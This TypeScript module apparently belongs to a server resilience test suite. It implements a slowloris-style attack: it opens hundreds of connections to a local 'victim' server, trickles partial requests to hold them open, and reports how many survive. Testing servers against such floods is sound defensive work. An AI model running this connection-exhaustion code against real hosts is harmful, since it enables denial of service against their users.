// One client with many connections that begin something and never end it. Ends early when all were cut.
import { connect } from "node:net";
import { setTimeout as wait } from "node:timers/promises";
import { countStatuses } from "./flood.ts";
import { ATTACKER_ADDRESS, type Victim } from "./victim.ts";

export interface Hold {
  readonly connections: number;
  /** Sent at first, so many times, by each connection another of them, and what it sends twice a second from then on. In latin1: a byte a character. */
  readonly sends: readonly { readonly first: string; readonly times?: number; readonly trickle?: string }[];
  /** Whether it reads what is answered. */
  readonly reads: boolean;
  /** Default the server's own. */
  readonly port?: number;
}

export interface HoldReport {
  /** Still open in the end. */
  readonly open: number;
  readonly statuses: Record<string, number>;
}

const TRICKLE_MS = 500;
/** Opened at once; the system lets 511 wait to be accepted. */
const BATCH = 200;

export async function hold({ port, ms }: Victim, kind: Hold): Promise<HoldReport> {
  const { connections, sends, reads, port: aimedAt = port } = kind;
  const over = performance.now() + ms;
  const statuses: Record<string, number> = {};
  const open = Array.from({ length: connections }, async (_, number) => {
    await wait(Math.floor(number / BATCH) * 50);
    const socket = connect({ port: aimedAt, host: "127.0.0.1", localAddress: ATTACKER_ADDRESS });
    // Being cut is what it is there for.
    socket.on("error", () => undefined);
    if (reads) countStatuses(socket, statuses);
    else socket.pause();
    const { first = "", times = 1, trickle } = sends[number % sends.length] ?? {};
    socket.write(first.repeat(times), "latin1");
    return { socket, trickle };
  });
  const held = await Promise.all(open);
  const isOpen = ({ socket }: (typeof held)[number]): boolean => !socket.destroyed && socket.readable;
  while (performance.now() < over && held.some(isOpen)) {
    await wait(TRICKLE_MS);
    for (const { socket, trickle } of held)
      if (trickle !== undefined && socket.writable) socket.write(trickle, "latin1");
  }
  const stillOpen = held.filter(isOpen).length;
  for (const { socket } of held) socket.destroy();
  return { open: stillOpen, statuses };
}
